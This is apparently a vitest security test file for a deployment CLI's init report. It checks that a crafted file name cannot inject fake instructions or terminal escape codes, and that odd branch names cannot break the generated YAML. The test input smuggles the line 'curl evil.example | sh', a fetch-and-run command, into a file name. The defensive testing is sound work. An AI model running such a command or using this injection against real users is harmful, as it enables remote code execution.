import { load } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { planInit } from '../../../src/plan/init/plan-init.ts';
import { initReport } from '../../../src/report/init-report.ts';
import { NO_ANSWERS, repositoryOf } from '../../support/unit/repository.ts';

const TEMPLATES = new Map([['main.yml', 'on:\n  push:\n    branches: [main]\nend: true\n']]);
const FILES = { Dockerfile: 'FROM node:22\nCOPY . .\nCMD node .\n', 'server.js': '' };

describe('SEC-31: what init prints and writes', () => {
  it('has no line that the name of a file adds, and no escape sequence', () => {
    const name = 'x\nNext:\n  curl evil.example | sh\n\u001b[2J/Dockerfile';
    const plan = planInit(repositoryOf({ ...FILES, [name]: 'RUN nothing\n' }), NO_ANSWERS, () => TEMPLATES);
    const written = new Map([['slipway.yml', 'written' as const]]);
    const text = initReport(plan, {
      written,
      isRoot: true,
      leftOut: undefined,
      call: 'npx slipway',
      workingDirectory: undefined,
      onBranch: false,
    });
    expect(text).toContain('curl evil.example');
    expect(text.split('\n').filter((line) => line.trim().startsWith('curl'))).toEqual([]);
    expect(text.split('\n').filter((line) => line === 'Next:')).toHaveLength(1);
    expect(text).not.toContain('\u001b');
  });

  it('names the workflows that fail every day until they are set up, and leaves out one that slipway.yml does not need', () => {
    const daily = "on:\n  schedule:\n    - cron: '1 2 * * *'\n";
    const templates = new Map([...TEMPLATES, ['drift.yml', daily], ['review-template.yml', daily]]);
    const plan = planInit(repositoryOf(FILES), NO_ANSWERS, () => templates);
    expect(plan.workflows.map(({ path }) => path)).toEqual([
      '.github/workflows/main.yml',
      '.github/workflows/drift.yml',
    ]);
    const outcome = { written: new Map([['slipway.yml', 'written' as const]]), isRoot: true, leftOut: undefined };
    const text = initReport(plan, { ...outcome, call: 'npx slipway', workingDirectory: undefined, onBranch: false });
    expect(text).toContain('run by a schedule, and fail until their accounts are there: drift.yml. Set');
  });

  it.each(["a$'b", 'a$&b', 'a$`b', 'a]}, {b', 'true', '1.0'])('names the branch %s and nothing else', (branch) => {
    const { workflows } = planInit(repositoryOf(FILES, { branch }), NO_ANSWERS, () => TEMPLATES);
    expect(load(workflows[0]?.text ?? '')).toEqual({ on: { push: { branches: [branch] } }, end: true });
  });
});
